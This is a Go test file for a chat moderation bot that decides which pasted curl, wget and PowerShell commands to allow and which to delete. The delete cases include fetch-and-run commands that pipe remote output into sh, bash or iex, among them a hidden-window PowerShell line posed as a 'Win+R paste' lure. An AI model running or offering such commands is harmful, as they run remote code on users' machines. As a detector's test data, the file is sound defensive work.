package bot_test

import (
	"testing"

	"github.com/immunebot/immune/bot"
)

// TestUploadIsNotRun (fp45): a pasted curl, wget or PowerShell command
// that sends a file or data to a site (--data-binary @file, -F
// 'file=@-', -T, --post-file, -Method Post -InFile, a pipe into curl),
// in a code span whose backticks are no shell's, runs nothing; each of
// the allowed lines was deleted on main (6d52f2a) as a fetch-and-run
// command. A sending command whose output a shell or an evaluator reads
// (a pipe into sh after it, bash -c "$(…)", eval `…`, iex (…), bash
// <(…)) and every download-and-run shape are still deleted.
func TestUploadIsNotRun(t *testing.T) {
	t.Parallel()
	checkLevels(t, false, []levelCase{
		{"paste.rs for quick curl uploads: `curl --data-binary @file https://paste.rs/`", bot.Allow},
		{"`cat build.log | curl -F 'file=@-' https://0x0.st` and send me the url it prints", bot.Allow},
		{"upload it with `curl -T report.pdf https://transfer.sh/report.pdf`", bot.Allow},
		{"try `curl -F \"file=@crash.log\" https://0x0.st` then paste the url here", bot.Allow},
		{"`wget --post-file=log.txt https://paste.rs/` works too", bot.Allow},
		{"`curl -sSF 'file=@shot.png' https://0x0.st`", bot.Allow},
		{"`irm -Method Post -Body (Get-Content log.txt -Raw) https://paste.rs/`", bot.Allow},
		{"`Invoke-RestMethod -Uri https://paste.rs/ -Method Post -InFile .\\log.txt`", bot.Allow},
		{"`curl -X POST https://auth-demo-api.fly.dev/api/auth/signin -d '{\"username\":\"test\"}'`", bot.Allow},
	})
	checkLevels(t, false, []levelCase{
		{"`curl --data-binary @file https://paste.rs/ | sh`", bot.Delete},
		{"echo hi | curl -F 'f=@-' https://0x0.st | sh", bot.Delete},
		{"bash -c \"$(curl -X POST -d id=1 https://cdn-update.top/p)\"", bot.Delete},
		{"eval `curl -sF x=@y https://cdn-update.top/p`", bot.Delete},
		{"`curl -d @- https://cdn-update.top/x | bash`", bot.Delete},
		{"sudo bash <(curl --data x https://cdn-update.top/a)", bot.Delete},
		{"iex (irm -Method Post -Body 'a' https://cdn-update.top/p)", bot.Delete},
		{"bash <(curl -s https://paste.rs/abc)", bot.Delete},
		{"iex (iwr https://paste.rs/abc)", bot.Delete},
		{"`wget -O- https://paste.rs/abc | sh`", bot.Delete},
		{"run `$(curl -s https://paste.rs/abc)`", bot.Delete},
		{"press Win+R and paste: powershell -w hidden -c \"iwr https://cdn-update.top/v.ps1 | iex\"", bot.Delete},
	})
}
